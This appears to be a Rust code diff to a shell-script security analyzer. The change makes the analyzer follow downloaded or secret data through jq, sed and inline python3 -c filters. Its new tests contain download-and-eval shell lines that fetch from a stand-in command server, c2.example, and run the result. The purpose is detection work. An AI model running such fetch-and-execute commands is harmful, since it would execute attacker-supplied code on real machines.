@@ -1194,21 +1194,33 @@ fn operand_or_stdin(a: &mut Analyzer, args: &Args, env: &mut Env, stdin: Option<
 fn file_reader(a: &mut Analyzer, name: &str, args: &Args, env: &mut Env, stdin: Option<&Val>) -> Val {
     let mut out = stdin.cloned().unwrap_or_default();
     let mut read_any = false;
-    let mut skip_next = false;
+    let mut skip = 0usize;
+    // The first operand of a filter is its program (`jq -r .x`, `sed s/a/b/`), not a file.
+    let mut program_pending = matches!(name, "sed" | "jq" | "yq" | "grep" | "rg");
     for (i, v) in args.vals.iter().enumerate().skip(1) {
-        if skip_next {
-            skip_next = false;
+        if skip > 0 {
+            skip -= 1;
             continue;
         }
         if v.text.starts_with('-') {
-            // Options that take a value: `head -c 60`, `cut -d :`, `sort -k 2`.
-            skip_next = matches!(
-                v.text.as_str(),
-                "-c" | "-n" | "-d" | "-f" | "-k" | "-t" | "-e" | "-m" | "-A" | "-B" | "-C"
-            );
+            // Options that take values: `head -c 60`, `cut -d :`, `jq --arg k v`.
+            skip = match v.text.as_str() {
+                "--arg" | "--argjson" | "--slurpfile" | "--rawfile" => 2,
+                "-c" | "-n" | "-d" | "-f" | "-k" | "-t" | "-m" | "-A" | "-B" | "-C" | "-L" | "--indent" => 1,
+                // `sed -e SCRIPT`, `grep -e PATTERN`: the program given as an option.
+                "-e" | "--expression" | "--regexp" => {
+                    program_pending = false;
+                    1
+                }
+                _ => 0,
+            };
             continue;
         }
-        if matches!(name, "sed" | "jq" | "grep") && i == 1 || v.text.bytes().all(|b| b.is_ascii_digit()) {
+        if program_pending {
+            program_pending = false;
+            continue;
+        }
+        if v.text.bytes().all(|b| b.is_ascii_digit()) {
             continue;
         }
         let content = read_file(a, v, args.spans[i], env);
@@ -1350,7 +1362,13 @@ fn interpreter(
             }
             exec(a, &code.clone(), lang, span, "inline code");
         }
-        return Val::unknown("‹…›");
+        // What inline code prints is made from what it was given: a download filtered
+        // by `python3 -c` is still the download.
+        let carried = stdin.map(|input| input.taint).unwrap_or_default();
+        return Val::unknown("‹…›").tainted(Taint::of(
+            carried.bits & (Taint::FETCHED | Taint::SECRET | Taint::SECRET_ENV),
+            carried.origin,
+        ));
     }
     if args.has("-m") {
         return Val::unknown("‹…›");
@@ -1902,6 +1920,30 @@ mod tests {
             "exec"
         ));
         assert!(!has("curl -s https://api.github.com/x | jq .", Lang::Shell, "exec"));
+    }
+
+    #[test]
+    fn a_download_filtered_before_it_is_run_is_still_the_download() {
+        assert!(has(
+            "hook=$(curl -s https://c2.example/next | jq -r .post_sync)\neval \"$hook\"",
+            Lang::Shell,
+            "exec/fetched"
+        ));
+        assert!(has(
+            "hook=$(curl -s https://c2.example/next | jq --arg h x -r '.[$h]')\neval \"$hook\"",
+            Lang::Shell,
+            "exec/fetched"
+        ));
+        assert!(has(
+            "hook=$(curl -s https://c2.example/n | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"x\"])')\neval \"$hook\"",
+            Lang::Shell,
+            "exec/fetched"
+        ));
+        assert!(!has(
+            "v=$(jq -r .version package.json)\necho \"$v\"",
+            Lang::Shell,
+            "exec"
+        ));
     }
 
     #[test]
